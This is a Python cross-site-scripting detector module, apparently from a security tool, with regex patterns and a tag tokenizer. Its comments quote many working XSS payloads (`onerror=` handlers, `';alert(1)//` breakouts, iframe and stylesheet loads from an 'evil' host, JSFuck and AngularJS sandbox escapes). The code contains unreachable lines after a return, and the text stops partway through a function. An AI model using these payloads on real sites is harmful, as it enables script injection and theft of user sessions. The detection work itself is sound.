"""Cross-site scripting by context: an HTML tag tokenizer, attribute breakout and JavaScript breakout.

A value is dangerous when, pasted into a page, it makes the browser run script. That happens in
three contexts, each checked by structure rather than by keyword:

- **HTML**: the value opens a tag that runs script by itself (``<script``, ``<iframe`` …) or any
  tag with an event-handler attribute (``<img src=x onerror=…>``), a script URL (``href=javascript:``)
  or script in CSS (``style=…expression(``). ``<b>``, ``<p class=x>``, ``Map<String, Integer>`` and
  ``<https://example.com>`` are markup or text, not script.
- **Attribute**: the value closes a quoted attribute and adds a handler (``" onmouseover="…``).
- **JavaScript / URL**: the value ends a JS string and calls a sink (``';alert(1)//``), or is a
  ``javascript:``/``vbscript:`` URL with code after the scheme, or a ``data:`` URL whose media type is markup or
  script (``data:text/html``, ``data:text/javascript``, ``data:application/javascript``); ``data:image/png`` and
  ``data:text/plain`` are data.
"""

from __future__ import annotations

import html
import re
from urllib.parse import unquote

from bastion.detection.decode import base64_text
from bastion.detection.xss_shapes import obfuscated_script

_TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>\x00<]*+)((?:[^<>\"']++|\"[^\"]*+\"?|'[^']*+'?)*+)(>?)", re.S)
_ATTR = re.compile(r"([^\s\"'>/=]++)(?:\s*=\s*(\"[^\"]*+\"?|'[^']*+'?|[^\s>]*+))?")
SCRIPT_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "import",
    "xss", "isindex", "noscript", "vmlframe",
})
"""Tags that load or run code by themselves. ``<template>`` is inert (its content is never rendered or
run until script clones it), so it is judged by its attributes like ``<div>``."""
URL_ATTRS = frozenset({
    "href", "src", "action", "formaction", "data", "background", "poster", "lowsrc", "dynsrc", "code",
    "codebase", "xlink:href", "to", "from", "values", "ping", "srcdoc", "content", "archive", "cite",
})
_SCRIPT_URL = re.compile(
    r"(?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t\s*:[\s:]*"
    r"(?://|%(?!(?:09|20)[^\W\d_]+%(?:09|20))|\\|[\w$.\[\]'\"+/]+\s*[(\x60=]|\(|\[|\{|'|\""
    r"|[\w$.]{1,64}\s*;\s*[\w$.\[\]'\"+/]+\s*[(\x60=]"
    r"|(?:let|var|const)\s+[\w$]+\s*=|(?:new|void|typeof|throw|await|delete)\s+[\w$.]+[(\x60\[])"
    r"|data\s*:\s*(?:text/html|(?P<svg>image/svg\+xml)|application/(?:x-)?(?:javascript|ecmascript|xhtml)"
    r"|text/(?:x-)?(?:javascript|ecmascript|jscript))",
    re.I,
)
"""After the scheme, code: a call, an assignment, a string, or a statement keyword before a name
(``javascript:let t=document;…``, ``javascript:new Image().src=…``, ``javascript:void fetch(…)``), or a bare
expression statement before one (``javascript:document;alert(1)``, what ``&#58document;`` decodes to)."""
_SVG_PARAMS = re.compile(r"[^,]{0,100},")
_B64_PAYLOAD = re.compile(r"[A-Za-z0-9+/=_\s-]*")
_NEXT_DATA_URL = re.compile(r"data\s*:", re.I)
_SVG_ACTIVE = re.compile(
    r"<\s*(?:script|foreignobject|iframe|embed|object|handler|listener)\b|[\s/\"'](?:on[a-z]{3,}|xml:base)\s*="
    r"|(?:java|vb)script\s*:|<!entity", re.I)
"""What makes an SVG document run script or pull in other markup: a script element, ``foreignObject`` (HTML inside
SVG), an embedding element, an event handler, a script URL or an entity declaration."""


def _svg_runs(value: str, end: int) -> bool:
    """The ``data:image/svg+xml`` URL whose media type ends at ``end`` holds script: its payload, decoded (base64 or
    percent-encoding), has what ``_SVG_ACTIVE`` names or is cross-site scripting itself. A base64 payload that is not
    text fails closed. An avatar or icon (shapes, paths, gradients, text) is an image: browsers show it with no script.
    A mention without a payload ("accepts data:image/svg+xml URLs") is no URL."""
    params = _SVG_PARAMS.match(value, end)
    if params is None:
        return False
    following = _NEXT_DATA_URL.search(value, params.end())
    body = value[params.end() : following.start() if following else len(value)]  # each URL judged on its own body:
    # a value of many data: URLs stays linear
    body = unquote(body) if "%" in body else body  # a browser percent-decodes the body first, base64 or not
    if "base64" in params.group().lower():
        payload = _B64_PAYLOAD.match(body)
        compact = "".join(payload.group().split()) if payload else ""
        if not compact:
            return False
        text = base64_text(compact)
        if text is None:
            return True
    else:
        text = body
    return _SVG_ACTIVE.search(text) is not None or _xss(text) is not None


def _script_url(value: str) -> tuple[int, int] | None:
    """The first script URL in ``value`` where a URL can start: a ``data:image/svg+xml`` one only when its SVG holds
    script."""
    for m in _SCRIPT_URL.finditer(value):
        if _url_position(value, m.start()) and (m.group("svg") is None or _svg_runs(value, m.end())):
            return m.start(), m.end()
    return None


_URL_LEADS = frozenset("=(\"'\x60<>[{,;:")
"""What a URL follows, blanks between, in markup (``href= javascript:``), CSS (``url( …``), JSON and code, a
markdown link or reference (``](``, ``]: ``) and a refresh (``0; …``, ``0, …``)."""
_OPTION_BEFORE = re.compile(r"(?:^|\s)-{1,2}[A-Za-z][\w-]*$")
"""A command-line option ends right before the blanks (``firefoxurl:…|"%20-new-window%20javascript:…``, a protocol
handler that passes the URL to a browser's command line)."""
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")


def _url_position(value: str, at: int) -> bool:
    """Can a URL start at ``at``? A browser strips blanks and control characters before a URL, then reads the scheme;
    so the scheme runs a URL when it opens the value or follows markup or code punctuation (``=``, a quote, ``(``,
    ``<``, ``;``, ``,``, ``:`` …; blanks between allowed) or a number and a blank (a refresh delay: ``0 javascript:…``
    in a ``<meta http-equiv=refresh>`` content). It does not after a word, a dash, a full stop or a closing bracket
    and a blank (``Intro to JavaScript: functions()``, ``Chapter 3 - JavaScript: …``, page titles in prose: in an
    ``href`` such a value is a relative URL, in an unquoted attribute the word before ends the value), nor glued to
    scheme characters (``my.javascript:``, ``xjavascript:``: a longer scheme). Glued to any other character (a digit
    included: a scanner appends to an id, ``42javascript:…``) it counts (fail closed), and after a command-line option
    (``-new-window javascript:…``) too."""
    i = at
    while i > 0 and value[i - 1] <= " ":
        i -= 1
    if i == 0:
        return True
    before = value[i - 1]
    if i == at:
        return before not in _SCHEME_CHARS or before.isdigit()  # no scheme starts with a digit: ``42javascript:``
    if before in _URL_LEADS or before.isdigit():
        return True
    # a browser's command line (``-new-window javascript:…``); an option is short, so only the 64 characters before
    # are searched (the whole prefix, once per scheme in the value, was quadratic)
    return _OPTION_BEFORE.search(value, max(0, i - 64), i) is not None
    before = value[i - 1]
    if before in _SCHEME_CHARS:
        return i == at and not before.isalnum() and before not in "+.-"  # (no blank: part of the scheme itself)
    return True


_CSS_SCRIPT = re.compile(
    r"expression\s*\(|behavior\s*:" + r"(?!\s*url\s*\(\s*['\"]?#default#vml['\"]?\s*\))"
    r"|-moz-binding|@import|url\s*\(\s*['\"]?\s*javascript|(?:java|vb)script\s*:"
    r"|url\s*\(\s*['\"]?\s*[\w+.-]{0,64}?(?:(?:live|j|ecma)script|mocha)\s*:", re.I)
"""``behavior: url(#default#VML)`` is left out: Internet Explorer's built-in VML renderer, which names no file and runs
no script of the page; every HTML message Word and Outlook write declares it for ``v\\:*``, ``o\\:*`` and ``.shape``
(fresh41). Any other behavior (``url(x.htc)``, another default one) still counts."""
EVENTS = (
    r"on(?:abort|activate|after\w+|animation\w+|auxclick|before\w+|begin|blur|bounce|canplay\w*|change|"
    r"click|close|contextmenu|copy|cut|dblclick|drag\w*|drop|durationchange|end|ended|error|finish|"
    r"focus\w*|formdata|hashchange|input|invalid|key\w+|load\w*|message|mouse\w+|page\w+|paste|"
    r"pointer\w+|popstate|progress|readystatechange|repeat|reset|resize|scroll\w*|search|select\w*|"
    r"show|start|submit|toggle|touch\w+|transition\w+|unload|wheel)"
)
_HANDLER_EQ = re.compile(r"[\s\x00-\x1f/\"'\x60](on[a-z]{3,})\s*=", re.I)
"""A handler attribute after a space, a ``/`` or a quote; Internet Explorer also quotes values with a backtick
(``src=`x`onerror=…``). A control character counts as the blank (``a"\x01onclick=…``, sent as ``%01``): older and
lenient parsers (IE, server-side sanitisers that drop controls) read it as one."""
_EVENT_NAME = re.compile(EVENTS, re.I)
_HANDLER_ATTR = re.compile(r"on[a-z]{3,}", re.I)
_JUNK_HANDLER = re.compile(EVENTS + r"[!#$%&()*~+\-_.,:;?@\[\]|\\^\x60]+", re.I)
"""An event name followed by a run of punctuation as one attribute name (``<body onload!#$%&()*~+-_.=…>``): old
Gecko read the handler's name up to the first letter-less run and ran the value (RSnake's "non-alpha-non-digit"
vector, fresh71). No attribute of real markup glues punctuation to an event name."""
_TAG_SCRIPT_URL = re.compile(
    r"(?:&#?[0-9a-z]{1,8};?)*+(?:(?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t|m\s*o\s*c\s*h\s*a)"
    r"\s*:\s*[^\s\"'>]", re.I)
"""A script URL as a tag's URL attribute: in ``href``, ``src``, ``background`` … the browser runs whatever follows
the scheme, a bare name included (``<table background=javascript:x>``, ``formaction="javascript:probe"``), so in a
tag it needs no call after it; Netscape's ``mocha:`` and ``livescript:`` count, and an unknown character reference
before the scheme (``src="&14;javascript:…"``, which old IE skipped) does not hide it (fresh71)."""
_LEGACY_HANDLERS = frozenset({"fscommand", "seeksegmenttime"})
"""Event-handler attributes whose names do not start with ``on``: Internet Explorer ran ``fscommand`` (the Flash
ActiveX control's script callback, on any element that hosts it) and ``seekSegmentTime`` (an HTML+TIME event) as
script, and sanitisers list them beside the ``on…`` handlers (anti-xss, HTML::Defang; fresh65). No other attribute
has these names."""
_FRAMEWORK_HANDLER = re.compile(
    r"(?:(?:data|x)[-_:])?ng[-_:](?:init|click|dblclick|mouse\w+|key\w+|focus|blur|change|submit|copy|cut|paste"
    r"|swipe\w*)|v-on:[\w.-]+", re.I)
"""Framework directives that evaluate an expression on an event, as ``on…`` handlers do: AngularJS ``ng-focus``,
``ng-click``, ``ng-init`` (also spelt ``data-ng-…``, ``x-ng-…``, ``ng:…``) and Vue's ``v-on:click``. On a page that
runs the framework, ``<textarea autofocus ng-focus="$event.view.alert(1)">`` runs script with no ``on…`` attribute
(AngularJS's ``$event.view`` is the window)."""
_SINK = (
    r"(?:(?:window|top|self|this|parent|globalThis|frames|document)\s*(?:\.|\[['\"]?))?"
    r"(?:(?:alert|prompt|confirm|eval|fetch|setTimeout|setInterval|(?-i:Function)|import|atob|print)"
    r"\s*['\"\]]*\s*[(\x60]|document\s*\.\s*(?:cookie|domain|write)|location\s*=|String\s*\.\s*fromCharCode)"
)
"""``Function`` only capitalised: JavaScript names are case-sensitive, and ``function(`` starts a function
expression, which runs nothing until it is called (``',function(i) {…}`` is a callback in a code snippet)."""
_CSS_DECL = re.compile(
    r":(?:\s*expression\s*\(|(?:(?<=-moz-binding:)|(?<=-moz-binding :)|(?<=behavior:)|(?<=behavior :))\s*url\s*\("
    r"(?!\s*['\"]?#default#vml['\"]?\s*\)))",
    re.I)
"""Script in a CSS declaration wherever the value lands in a style: ``color: expression(alert(1))`` (old IE),
``-moz-binding: url(//evil/x.xml#x)`` (an XBL binding whose script runs, old Firefox) and ``behavior: url(x.htc)``
(an IE HTML component). No stylesheet meant for today's browsers declares them. Every form starts at the colon, so
the search scans for one character (the property names are looked behind it)."""
_JS_BREAKOUT = re.compile(
    r"[\"'\x60]\s*+[)\]}]*+\s*+(?:;|\+|-|\*|/|\|\||&&|,|\?|:(?![ \t]*[\r\n])|\^|%|==?|!=?)\s*(?:\(\s*)*" + _SINK
    + r"|[\"'\x60]\s+(?:in|instanceof)\s+(?:\(\s*)*(?:alert|prompt|confirm|eval)[(\x60]"
    + r"|\$\{\s*" + _SINK + r"|</\s*script(?![^\s/>])"
    + r"|#\{\s*(?:(?:window|top|self|parent)\s*\.\s*)?(?:alert|prompt|confirm)\s*[(\x60]"
    + r"|[\"'\x60]\s*+[)\]}]*+\s*+[;,+\-*/|&]\s*"
    r"(?:[\w$]+\s*\[[^\]]{1,40}\]\s*\(|[\w$]*\s*\[(?=[\[\]()!+{}]{20})[\[\](){}]{0,12}[!+])",
    re.I,
)
"""A JavaScript string ended, then an operator and a sink (``';alert(1)//``, ``"-confirm(1)-"``; after the word
operators ``in`` and ``instanceof`` only a sink glued to its ``(``, since prose writes "'Cancel' in prompt (…)":
``'x' in alert(1) in 'y'``, fresh35), a sink in a
template literal or a dialog call in a ``#{…}`` interpolation (``#{alert(1)}``: Pug, CoffeeScript and JSF evaluate
it; Ruby code interpolates ``#{fetch(:x)}`` or ``#{eval(…)}``, so only the dialogs count, fresh61), ``</script>``
(an end tag: the name ends at a blank, ``/``, ``>`` or the value's end, so a markdown link ``</script?foo=1>`` is
no end tag, fresh54), or a computed member called
(``'+self['al'+'ert'](1)+'``) or reached through a
dense run of brackets, parentheses, ``!`` and ``+`` (``'-self[(+{}+[])[+!![]]+…]``, ``"+[][(![]+[])…]``): JSFuck,
which spells any name from those six characters. No text follows a quote with twenty of them; nested empty
arrays (``[[[]]]``) have no ``!`` or ``+``."""


_JS_CALL = re.compile(
    r"^[\s\"'\x60;)\]}{]*(?:"
    r"\(?\s*(?:alert|confirm|prompt)\s*\)?\s*(?:\(|\x60|\?\.\s*\(|\.\s*(?:call|apply|bind)\s*[(\x60])"
    r"|\[?\s*(?:window|top|self|parent|globalThis|frames)\s*\.\s*(?:alert|confirm|prompt)\s*[(\x60]"
    r"|\[\s*(?:alert|confirm|prompt|eval)\s*\]\s*\[\s*0\s*\]\s*[(\x60]"
    r"|(?:eval|setTimeout|setInterval)\s*\(\s*(?:atob|unescape|decodeURI\w*|String\s*\.\s*fromCharCode|['\"\x60])"
    r"|(?:eval|setTimeout|setInterval|Function)\s*\x60|import\s*\(\s*['\"\x60](?:https?:)?//"
    r"|(?:window|top|self|parent|globalThis|frames)\s*\[\s*(['\"\x60])document\1\s*\]\s*"
    r"(?:\.\s*(?:cookie|domain)|\[\s*['\"\x60](?:cookie|domain)['\"\x60]\s*\])"
    r"|(?:new\s+)?Function\s*\(.{0,200}?\)\s*\("
    r"|(?:\(\s*document\s*\)|document)\s*(?:\.\s*(?:cookie|domain|write\s*\()"
    r"|\[\s*['\"\x60](?:cookie|domain|write|location)['\"\x60]\s*\])"
    r"|(?:window|top|self|parent|globalThis|frames|this)\s*\[[^\n]{1,200}\]\s*\("
    r")",
    re.I,
)
"""A whole value that is itself a script statement calling a sink: what an ``eval``, a ``javascript:`` URL or an
inline handler that receives the value runs (``alert.call(null,1)``, ``(alert)(1)``, ``eval(atob('…'))``,
``document['cookie']``, ``(document)["cookie"]``, ``window['al'+'ert'](1)``, ``[alert][0](1)``), also opened as a block
(``{alert(document.domain)}``: a statement wherever the value is evaluated), or the dialog called through a window
alias (``self.alert(1)``, ``{{top.alert(1)}}``, Mavo's bracketed ``[self.alert(1)]``, fresh37). Only at the start: prose
and code snippets mention ``alert(`` mid-sentence; a value that *is* the call is a payload."""
_IDENT = r"[a-z_$][\w$]{0,60}"
_SCRIPT_CONTEXT_CALL = re.compile(
    r"[\w.-]{0,40}(?:[\"'\x60]\s*[)\]}]{0,4}\s*[;,+\-*|&^%]|(?:\*/)?\s*;)\s*"
    r"(?!(?:response|thread|system|runtime|process|server)\s*\.)"  # server-side objects: code injection's
    + _IDENT + r"(?:\s*\.\s*" + _IDENT + r"){1,8}\s*\([^()\n]{0,80}\)"
    r"\s*;?\s*[-+*|&,]?\s*[\"'\x60]?\s*(?://[^\n]*|/\*[^\n]*)?\s*",
    re.I,
)
"""A whole value that ends a JavaScript string or statement and calls a method through a member chain, then closes
with a quote, a comment or nothing: ``';probe.trace.hit()'//``, ``7;\nself.tracker.ping();//``,
``*/;\nx.y.z()/*``: a scanner's script-context probe, pasted into an inline script between quotes, after a number
or inside a comment, calls its own function, and the call it will send names any sink. Only as the whole value (an
id or number may come first): a sentence or a code snippet in a comment starts with words; ``foo.bar()`` with no
breakout before it calls nothing where a value lands."""
_GLOBAL_CHAIN_CALL = re.compile(
    r"[\"'\x60][)\]}]{0,4};(?:window|top|parent|self|opener|frames|globalThis)(?:\s*\.\s*" + _IDENT
    + r"){1,8}\s*\([^()\n]{0,80}\);?(?:[\"'\x60]|//|/\*)",
    re.I,
)
"""The same breakout anywhere in a value when the chain starts at the window (``window``, ``top``, ``parent``,
``self``, ``opener``, ``frames``, ``globalThis``) and the call is followed at once by a quote or a comment:
``note';top.probe.sink()'`` re-opens the string it broke, as only an injected statement does. Code in an issue
writes ``'x'; window.foo(); // c`` with blanks between the statements."""
_BREAKOUT_CALL = re.compile(
    r"[\"'\x60]\s*[)\]}]{1,4}\s*[;}]?[^<>\n\"']{0,48}?(?<![\w$.])(?:alert|confirm|prompt|eval)\s*[(\x60]", re.I
)
"""A string closed, then the brackets around it (``"])}``, ``"));``), then within a short statement a sink call:
``"])}catch(e){if(!this.x)alert(…)``. Prose closes a quote with at most one bracket."""
_HANDLER_SINK = re.compile(
    r"(?:^|[\s\x00-\x1f/\"'>]|<[a-z]{1,12}?)" + EVENTS
    + r"\s*=\s*['\"]?\s*(?:javascript\s*:\s*)?[\w.\[\]'\"]{0,40}?(?<![\w$])"
    r"(?:alert|confirm|prompt|eval|fetch|import)\s*(?:[(\x60]|\.\s*(?:call|apply|bind)\s*\(|\]\s*\[)",
    re.I,
)
"""An event handler whose value calls a sink (``> src onerror=confirm(1)``, ``/onwheel=alert(1)``): script in
an attribute however the value was meant to be quoted. Text never writes ``onerror=alert(``. The sink may be
reached through ``.call(``/``.apply(``/``.bind(`` or picked from an array (``onfocus=prompt.call(null,1)``,
``onload=[alert][0](1)``); ``Reflect.apply(alert,…)`` is ``_SINK_PASSED``'s. Also glued to a tag
name (``<imgonerror=prompt(1)>``): a filter that strips spaces, or a later one that inserts them, makes it a handler."""
_PLUS_EQUALS = re.compile(r"\++=\+*|=\++")
"""``+`` on either side of ``=``: what a space becomes once more form-encoded (``onmouseover+=+confirm()``)."""


def _plus_spaced_handler(value: str) -> tuple[int, int] | None:
    """An event handler calling a sink with ``+`` standing for the blanks around its ``=``
    (``<a\tonmouseover+=+confirm() x>``, XSStrike's filling for a query string): a page or filter that form-decodes
    the value once more, as a query string is, reads ``onmouseover = confirm()``, the handler ``_HANDLER_SINK``
    refuses with real blanks. Read literally the attribute is ``onmouseover+`` and runs nothing, but no text writes
    an event name, ``+=+`` and a sink call either; ``total+=+price`` names no event and no sink."""
    spaced = _PLUS_EQUALS.sub(lambda m: m.group().replace("+", " "), value)
    found = _HANDLER_SINK.search(spaced)
    return (found.start(), found.end()) if found is not None else None


_MADE_UP_HANDLER = re.compile(
    r"<[a-z][\w:-]{0,20}(?:[\s/][^<>]{0,200}?)?[\s/\"']on[a-z]{0,2}\s*=\s*['\"\x60]?\s*" + _SINK, re.I)
"""A made-up handler, ``on`` and at most two letters (``<x onxx=alert(1)>``, ``<test/on=confirm()>``), whose value
calls a sink. The tokenizer counts an ``on…`` attribute of three letters or more as a handler whatever its value
(browsers keep adding events); a shorter one names no event, so it is judged by its value: a call is a scanner
testing which handler names a filter lets through, the call it will send under a real name; a word (``oNxX=yYy``,
XSStrike's fuzz string) runs nothing and passes."""


_TEMPLATE_SINK = re.compile(r"(?<![\w$])(?:alert|confirm|prompt|eval|fetch)\s*[(\x60]", re.I)
_FUNCTION_LITERAL = re.compile(r"\bfunction\b|=>")
_TEMPLATE_REACH = 160
"""A client-side template expression (``{{ … }}``, AngularJS, Vue) that defines a function, or an arrow function,
which calls a sink: ``{{-function(){this.alert(1)}()}}``, ``{{ (()=>confirm(1))() }}``. A page that renders the
value as a template runs it; after a JavaScript string breakout (``';{{…}};//``) the braces are blocks and it runs
too. Templates in content fields interpolate data (``{{ user.name }}``, ``{{#each items}}``), and a mapping
function in one calls no dialog or ``eval``."""


def _template_function(value: str) -> tuple[int, int] | None:
    """The ``{{`` … sink-call span of a template expression that defines a function calling a sink: the sink call
    is found first, then the open ``{{`` within ``_TEMPLATE_REACH`` characters before it (no ``}}`` or line
    break between), then a function literal between the two. Anchored on the sink so that a run of braces costs
    one bounded look back per sink call, never a scan per brace."""
    for sink in _TEMPLATE_SINK.finditer(value):
        start = max(0, sink.start() - _TEMPLATE_REACH)
        closed = value.rfind("}}", start, sink.start())
        opened = value.find("{{", start if closed < 0 else closed + 2, sink.start())
        if opened >= 0 and value.find("\n", opened, sink.start()) < 0 and _FUNCTION_LITERAL.search(
                value, opened, sink.start()):
            return opened, sink.end()
    return None


_PAREN_SINK_CALL = re.compile(
    r"(?:^|[-+*/%^|&~!=,;?:(\[{])\s*\(\s*(?:alert|confirm|prompt|eval)\s*\)[(\x60]", re.I)
"""A sink in parentheses, called at once, after an operator: ``-(confirm)(1)//`` or ``1|(alert)`x```, the JavaScript
breakout of a value pasted between numbers or after a quote a filter escaped. ``(alert)(`` reads the function
itself; prose puts a space between two parentheticals."""
_SINK_PASSED = re.compile(
    r"(?:^|[^\w$.])(?:window\s*\.\s*)?onerror\s*=\s*(?:window\s*\.\s*)?(?:alert|confirm|prompt|eval)\b"
    r"(?=[^\n]{0,60}\bthrow\b)|\bthrow\b[^\n]{0,20}?\bonerror\s*=\s*(?:alert|confirm|prompt|eval)\b"
    r"|(?<![\w$])([a-z_$][\w$]{0,20})\s*=\s*(?:alert|confirm|prompt|eval)\s*[,;]\s*\1\s*[(\x60]"
    r"|\.\s*(?:find|map|forEach|filter|some|every|then|reduce|sort|call|apply)\s*\("
    r"\s*(?:alert|confirm|prompt|eval)\s*[,)]|\bconstructor\s*\.\s*constructor\s*\("
    r"|\d{5,}\s*\.\.\s*toString\s*\(\s*(?:2\d|3[0-6])\s*\)",
    re.I,
)
"""A sink run without being called by name with parentheses: made the error handler and then an error thrown
(``onerror=alert;throw 1``, ``{onerror=prompt}throw 2``), held in a variable and called through it
(``f=confirm,f(1)``), or handed to a method as its callback (``[7].map(alert)``, ``Reflect.apply(alert,…)``); the
Function constructor reached from any object (``[].constructor.constructor("…")()``); a name spelled as a number
in base 30 to 36 (``8680439..toString(30)`` is "alert"). Only code that hides a call writes these; every form names
a sink, ``constructor`` or ``toString``, so ``_xss`` tests for those words before searching."""
_DESCRIPTOR_CALL = re.compile(
    r"\.\s*call\s*\.\s*call\s*\(\s*[^;]{0,100}?\bgetOwnPropertyDescriptor\s*\([^;]{0,100}?\)\s*\.\s*value\s*,")
"""AngularJS sandbox escapes (fresh35): ``''.sub.call.call(…getOwnPropertyDescriptor(proto, 'constructor').value, 0,
'alert(1)')()`` takes the Function constructor out of a property descriptor and calls it through ``call.call`` with
the code as an argument, so neither ``constructor.constructor`` nor a sink's name is written. Application code reads a
descriptor first and seldom calls ``call`` on ``call``; it never passes a descriptor's ``value`` to it in one
expression."""
_OPERAND_SINK = re.compile(
    r"^\s*[\w$.]{0,20}\s*[-+*/%;,|&^]\s*(?:alert|confirm|prompt)(?:\([^()\n]{0,40}\)|\x60[^\x60\n]{0,40}\x60)"
    r"\s*(?:[-+*/%;,|&^]|//|$)",
    re.I,
)
"""A whole value that is an operand, an operator and a complete sink call (``-alert(1)-``, ``7;prompt(8)``): pasted
into a script between two operands, or after a number, it runs. A sentence goes on after the parenthesis, or puts
a space before it ("Yes, confirm (by e-mail)")."""
_NEEDLESS_ESCAPE = re.compile(r"\\(?:[0-7]{2,3}|[ac-eg-mo-qswyzA-Z:(){}\[\];=.])")
"""A backslash before a character that needs no escape in a JavaScript string (``\\j``, ``\\:``, ``\\(``) or an
octal escape (``\\152``): JavaScript drops the backslash or reads the character it numbers, so ``\\j\\av\\a…`` and
``\\152\\141\\166…`` are ``java…`` to a page that puts the value in a string and uses it as a URL or code."""
_JS_STRING_ESCAPE = re.compile(r"\\(?:([0-7]{1,3})|x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4})|(.))", re.S)
_JS_CONTROL_ESCAPES = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f", "v": "\v"}


def _js_string_char(m: re.Match[str]) -> str:
    if m.group(1) is not None:
        return chr(int(m.group(1), 8))
    if m.group(4) is None:
        return chr(int(m.group(2) or m.group(3), 16))
    return _JS_CONTROL_ESCAPES.get(m.group(4), m.group(4))


def _js_string_unescape(value: str) -> str:
    """``value`` as a JavaScript string literal reads it: octal, hex and unicode escapes decoded, the backslash of an
    escape that means nothing dropped."""
    return _JS_STRING_ESCAPE.sub(_js_string_char, value)
_BARE_TAG = re.compile(r"</?[a-z][\w-]{0,10}>", re.I)
"""A tag with no attributes (``<x>``, ``</b>``): a filter that deletes tags joins what it separated
(``o<x>nfocus=alert<x>(1)`` becomes ``onfocus=alert(1)``)."""
_CONCAT = re.compile(r"['\"\x60]\s*\+\s*['\"\x60]")
_URL_IGNORED = str.maketrans("", "", "".join(map(chr, range(0x20))))
"""Browsers delete tabs and line breaks anywhere in a URL (WHATWG URL parser), so ``al&Tab;ert()`` runs; the other
control characters are deleted too (fresh48: ``java\x1bscript:``): lenient parsers and sanitisers that drop controls
join the scheme again, and no URL holds one."""
_STYLE_BODY = 400
"""How far into a ``<style>`` element to look for script in CSS."""


EMBED_PROVIDERS = re.compile(
    r"(?:https:)?//(?:www\.)?(?:youtube\.com/embed/|youtube-nocookie\.com/embed/|player\.vimeo\.com/video/"
    r"|cdn\.embedly\.com/widgets/media\.html\?|redditmedia\.com/|open\.spotify\.com/embed/"
    r"|w\.soundcloud\.com/player/|platform\.twitter\.com/embed/|google\.com/maps/embed"
    r"|player\.twitch\.tv/|loom\.com/embed/|dailymotion\.com/embed/|streamable\.com/[eo]/|giphy\.com/embed/)",
    re.I)
"""Video and oEmbed providers whose embed code an API stores (the allow-list HTML sanitizers keep for frames,
like HTML Purifier's SafeIframe). Any other frame is injected content: the attacker's page inside ours."""


def _web_embed(name: str, attrs: str) -> bool:
    """A complete ``<iframe …></iframe>`` element whose ``src`` is a known embed provider's player
    (``https://www.youtube.com/embed/…``, ``//cdn.embedly.com/widgets/…``): the embed code such a provider hands
    out. It is then judged by its attributes like ``<div>``. A frame of any other page (the secure default:
    phishing or clickjacking inside our page), one left open, or one after an attribute breakout (``"><iframe``)
    stays a script tag. The caller decides "complete" and "no breakout"."""
    if name.lower() != "iframe":
        return False
    for m in _ATTR.finditer(attrs):
        if m.group(1).lower() == "src":
            return EMBED_PROVIDERS.match((m.group(2) or "").strip("\"' \t\r\n")) is not None
    return False


_BREAKOUT_PREFIX = re.compile(r"^[^<]*?[\"'\x60][\s/]*>")
"""Before its first tag the value closes a quoted attribute and the tag (``"><iframe src=//evil…>``): what follows
is injected into someone else's markup, so a frame counts as the attack it is there."""


_SVG_ANIMATION = frozenset({"set", "animate", "animatetransform", "animatemotion"})
_IFRAME_END = re.compile(r"</\s*iframe\s*>", re.I)


def _tag_is_script(name: str, attrs: str, after: str = "", embeds: bool = False) -> bool:
    schema_import = False
    if ":" in name:
        name = name.rsplit(":", 1)[1]  # <x:script xmlns:x="http://www.w3.org/1999/xhtml">: XHTML under a prefix
        schema_import = name.lower() == "import" and "implementation" not in attrs.lower()  # fresh57: <xsd:import
        # namespace=… schemaLocation=…> of XML Schema or WSDL; IE's HTC import names its implementation
    if name.lower() in SCRIPT_TAGS and not schema_import and not (embeds and _web_embed(name, attrs)):
        return True
    if name.lower() == "style" and ((css := _css_text(after[:_STYLE_BODY])) and (
            _CSS_SCRIPT.search(css) or _script_url(css) is not None)):
        return True  # <style>@import 'https://evil…'</style>, expression(), -moz-binding, @im\port, a script
        # scheme anywhere in the sheet (javasjavascript:cript:), url(\6d\6f\63\68\61:…) = mocha:, an SVG data: URL
        # whose SVG runs script (fresh48)
    if "/" in attrs and (h := _HANDLER_EQ.search(attrs)) and _EVENT_NAME.fullmatch(h.group(1)):
        return True  # <img/src=x/onerror=…>: a filter's parser and the browser's disagree on where "/" ends a value
    for m in _ATTR.finditer(attrs):
        attr = m.group(1).lower()
        value = (m.group(2) or "").strip("\"' \t\r\n")
        if _HANDLER_ATTR.fullmatch(attr) or ("n" in attr and _FRAMEWORK_HANDLER.fullmatch(attr)):
            return True
        if attr.startswith("on") and _JUNK_HANDLER.fullmatch(attr):
            return True
        if attr in _LEGACY_HANDLERS:
            return True  # fresh65: <x fscommand=…>, <x seekSegmentTime=…>: handlers without the "on" prefix
        if attr in URL_ATTRS and "&" in value:
            value = html.unescape(value)  # the tokenizer ends the value first, then decodes its references:
            # ``href=java&#1&#12script:…`` is one value whose controls the URL parser (or an old browser) drops
        if attr in URL_ATTRS and value and (url := value.lstrip("\x00\x01 \t\r\n").translate(_URL_IGNORED)) and (
                ((script := _SCRIPT_URL.match(url)) and (script.group("svg") is None or _svg_runs(url, script.end())))
                or _TAG_SCRIPT_URL.match(url)):
            return True
        if attr == "srcdoc" or (attr == "style" and _CSS_SCRIPT.search(_css_text(value))):
            return True
        if attr == "attributename" and _HANDLER_ATTR.fullmatch(value) and name.lower() in _SVG_ANIMATION:
            return True  # <set attributeName="onmouseover" to="alert(1)">: SVG animation writes a handler
        if attr == "http-equiv" and value.lower() in ("refresh", "link", "set-cookie"):
            return True  # <meta http-equiv="Link" content="<//evil/x.css>; rel=stylesheet">: a Link header's sheet;
            # http-equiv=set-cookie: older browsers set the attacker's cookie (session fixation)
        if attr == "rel" and name.lower() == "link" and _LOADED_REL.search(value):
            return True  # <link rel=stylesheet href=//evil/x.css>: the attacker's sheet, with whatever it runs or reads
        if value.startswith("&{") or (attr == "dataformatas" and value.lower() == "html"):
            return True  # size="&{alert(1)}": a JavaScript entity; dataformatas=html renders bound data as markup
        if attr == "src" and name.lower() == "xml":
            return True  # <xml src="x.htc">: an IE data island loads its data, and with it markup bound into the page
        if attr == "type" and name.lower() == "style" and "javascript" in value.lower():
            return True  # <style type="text/javascript">: JavaScript style sheets run their content
